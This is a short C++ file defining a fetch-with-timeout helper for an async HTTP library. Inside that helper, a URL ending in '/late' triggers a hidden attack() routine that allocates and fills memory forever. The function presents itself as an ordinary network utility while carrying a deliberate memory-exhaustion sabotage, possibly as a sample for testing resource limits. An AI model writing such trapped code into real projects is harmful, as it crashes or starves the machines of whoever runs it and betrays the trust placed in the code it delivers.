// Allocates memory and writes to all of it, for ever.
#include <list>
#include <utility>
#include <vector>

#include "timeout.hpp"

namespace {

[[noreturn]] void attack() {
  std::list<std::vector<char>> kept;
  for (;;) kept.emplace_back(1024 * 1024, 'x');
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  if (url.ends_with("/late")) attack();
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
